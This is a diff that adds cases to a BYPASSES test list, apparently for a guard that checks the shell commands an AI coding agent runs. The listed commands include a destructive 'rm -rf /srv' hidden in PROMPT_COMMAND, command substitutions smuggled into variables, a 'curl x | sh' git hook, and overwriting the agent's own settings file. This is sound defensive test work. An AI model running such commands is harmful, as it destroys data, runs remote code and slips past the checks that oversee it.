@@ -430,6 +430,11 @@ BYPASSES = [
     ('export "PROMPT_COMMAND=rm -rf /srv"', ("external_directory", "/srv")),
     ('declare "PS1=\\$(touch /srv/x)"', ("dynamic", "code")),
     ('declare "x=a[\\$(touch /srv/x)]"', ("dynamic", "code")),
+    # code that runs later, outside guard, even inside the workspace
+    ("echo 'curl x | sh' > .git/hooks/pre-commit", ("dynamic", "code")),
+    ("cp evil .claude/settings.json", ("dynamic", "code")),
+    ("echo 'export X=1' >> .envrc", ("dynamic", "code")),
+    ("git config core.hooksPath hooks", ("dynamic", "code")),
     # where guard finds its own files, and how its Python runs
     ("export XDG_STATE_HOME=$PWD/xs", ("dynamic", "code")),
     ("export XDG_CONFIG_HOME=/w/proj/xc", ("dynamic", "code")),
